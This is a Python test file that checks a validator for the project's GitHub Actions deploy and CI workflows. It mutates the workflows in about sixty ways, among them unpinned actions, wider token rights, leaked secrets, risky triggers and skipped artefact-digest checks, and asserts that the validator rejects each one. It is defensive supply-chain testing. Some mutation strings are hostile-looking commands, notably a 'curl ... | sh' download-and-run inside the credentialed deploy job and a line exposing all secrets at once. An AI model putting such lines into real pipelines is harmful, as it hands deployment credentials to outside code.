"""The workflows as data: what the checker lets through is what stands there, and each way around it is refused."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from infra import pipeline
from infra.pipeline import find_workflow_faults
from tests.infra.templates import ROOT

CI, DEPLOY = ((ROOT / ".github" / "workflows" / f"{name}.yml").read_text() for name in ("ci", "deploy"))
CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
CREDENTIALS = "aws-actions/configure-aws-credentials@8df5847569e6427dd6c4fb1cf565c83acfa8afa7 # v6.0.0"
DIGEST = 'run: echo "$DIGEST  motcua.tar.gz" | sha256sum --check --strict'
BUILT = '{DIGEST: "${{ needs.build.outputs.digest }}"}'
SECRET = '{EDGE_SECRET: "${{ secrets.EDGE_SECRET }}"}'
Change = Callable[[str], str]


def put(old: str, new: str, times: int = -1) -> Change:
    """Replace a text that is there."""

    def change(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, times)

    return change


def in_job(job: str, change: Change) -> Change:
    """Change one job's text alone."""

    def changed(text: str) -> str:
        start = text.index(f"\n  {job}:\n") + 1
        following = [text.find(f"\n  {name}:\n", start) for name in ("audit", "build", "attest", "deploy")]
        end = min((at for at in following if at > 0), default=len(text))
        return text[:start] + change(text[start:end]) + text[end:]

    return changed


ATTACKS: dict[str, Change] = {
    "a tag in place of a commit": put(CHECKOUT, "actions/checkout@v6", 1),
    "a branch in place of a commit": put(CHECKOUT, "actions/checkout@main", 1),
    "a short commit": put(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
    "a version with a commit's length": put(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
    "a commit without its version": put(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
    "two commits of one action": put(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
    "an action in a flow mapping": put(
        f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}",
        "- {uses: actions/checkout@v6, with: {persist-credentials: false}}",
        1,
    ),
    "an action of the checkout itself": put(CHECKOUT, "./.github/actions/setup", 1),
    "an image as an action": put(CHECKOUT, "docker://alpine:latest", 1),
    "an identity for the build": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}")
    ),
    "an identity for the audit": in_job(
        "audit", put("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
    ),
    "an identity for every job": put(
        "permissions:\n  contents: read", "permissions:\n  contents: read\n  id-token: write"
    ),
    "every right for every job": put("permissions:\n  contents: read", "permissions: write-all"),
    "no word about rights": put("permissions:\n  contents: read\n", ""),
    "more rights for the deployment": in_job(
        "deploy", put("id-token: write", "id-token: write\n      contents: write")
    ),
    "more rights for the attestation": in_job(
        "attest", put("attestations: write", "attestations: write\n      packages: write")
    ),
    "the deployment's environment for the build": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
    ),
    "the deployment's environment for the attestation": in_job(
        "attest", put("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
    ),
    "a deployment without its environment": put(
        "    environment: ${{ inputs.stage || 'staging' }}-${{ inputs.province || vars.STAGING_PROVINCE }}\n", ""
    ),
    "a secret for the whole deployment": in_job(
        "deploy", put("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
    ),
    "a secret for the workflow": put("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
    "a secret in the build": in_job("build", put("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")),
    "a secret in a step of the build": in_job(
        "build", put('- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}')
    ),
    "a secret inside a script": put(SECRET, "{}", 1),
    "every secret at once": put(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
    "a secret for an action": in_job(
        "deploy", put("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:")
    ),
    "the pipeline's own token in the build": in_job(
        "build", put("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
    ),
    "secrets handed on": in_job("build", put("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")),
    "an expression inside a script": in_job("build", put('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
    "a checkout in the job with the role": in_job(
        "deploy",
        put(
            "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
        ),
    ),
    "a checkout that keeps its token": put("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
    "make in the job with the role": in_job("deploy", put("run: tar ", "run: make install && tar ")),
    "pip in the job with the role": in_job("deploy", put("run: tar ", "run: pip install boto3 && tar ")),
    "pip as a module in the job with the role": in_job(
        "deploy", put("run: tar ", "run: python3 -m pip install boto3; tar ")
    ),
    "npm in the job with the role": in_job("deploy", put("run: tar ", "run: npm ci; tar ")),
    "a system package in the job with the role": in_job(
        "deploy", put("run: tar ", "run: sudo apt-get install -y jq; tar ")
    ),
    "a download in the job with the role": in_job(
        "deploy", put("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
    ),
    "a clone in the job with the role": in_job(
        "deploy", put("run: tar ", "run: git clone https://example.org/x; tar ")
    ),
    "another action in the job with the role": in_job(
        "deploy", put(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
    ),
    "another action in the job of the attestation": in_job("attest", put("actions/attest@", "someone/attest@", 1)),
    "an artefact taken unchecked": in_job("deploy", put(DIGEST, "run: ls")),
    "an artefact checked against itself": in_job(
        "deploy", put(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
    ),
    "a check that may fail": in_job("deploy", put(DIGEST, f"{DIGEST} || true")),
    "a check that continues after a failure": in_job(
        "deploy", put(DIGEST, f"continue-on-error: true\n        {DIGEST}")
    ),
    "a check that is left out at times": in_job(
        "deploy", put(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
    ),
    "a check after unpacking": in_job(
        "deploy",
        put(
            "- name: The artefact is what was built",
            "- run: tar -xzf motcua.tar.gz\n      - name: The artefact is what was built",
        ),
    ),
    "an attestation of what was not checked": in_job("attest", put(DIGEST, "run: ls")),
    "a build that says no digest": in_job("build", put("digest: ${{", "other: ${{")),
    "a deployment that waits for no test": put(
        "needs: [verify, audit, build, attest]", "needs: [audit, build, attest]"
    ),
    "a deployment that waits for no audit": put(
        "needs: [verify, audit, build, attest]", "needs: [verify, build, attest]"
    ),
    "a deployment without provenance": put("needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"),
    "a cache that others fill": in_job(
        "build", put("python-version-file: .python-version", "python-version-file: .python-version, cache: pip")
    ),
    "a service next to what is deployed": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
    ),
    "a machine of somebody's own": put("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
    "an image that moves": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
    "a container": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
    "no time limit": put("    timeout-minutes: 60\n", ""),
    "started by a stranger's change": put("on:\n", "on:\n  pull_request_target:\n"),
    "started by another run": put("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
    "a workflow of others": put(
        "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_way_around_the_pipeline_is_refused(name: str) -> None:
    changed = ATTACKS[name](DEPLOY)
    if name == "a secret inside a script":
        changed = changed.replace('"EdgeSecret=$EDGE_SECRET"', '"EdgeSecret=${{ secrets.EDGE_SECRET }}"')
    assert changed != DEPLOY
    assert find_workflow_faults("deploy", changed)


def test_what_stands_there_has_no_fault() -> None:
    assert pipeline.find_faults() == []
    assert find_workflow_faults("deploy", DEPLOY) == []
    assert find_workflow_faults("ci", CI) == []


def test_every_file_of_the_folder_is_read_and_one_that_is_no_workflow_is_a_fault(tmp_path: Path) -> None:
    (tmp_path / "other.yaml").write_text(ATTACKS["a tag in place of a commit"](DEPLOY))
    (tmp_path / "broken.yml").write_text("jobs: []")
    (tmp_path / "torn.yml").write_text("jobs: {")
    faults = pipeline.find_faults(tmp_path)
    assert {"broken: no workflow", "torn: no workflow"} <= set(faults)
    assert any(fault.startswith("other: actions/checkout@v6 is not pinned") for fault in faults)


def test_a_secret_is_only_where_the_stack_needs_it() -> None:
    assert DEPLOY.count("secrets.") == 2
    assert "secrets." not in CI
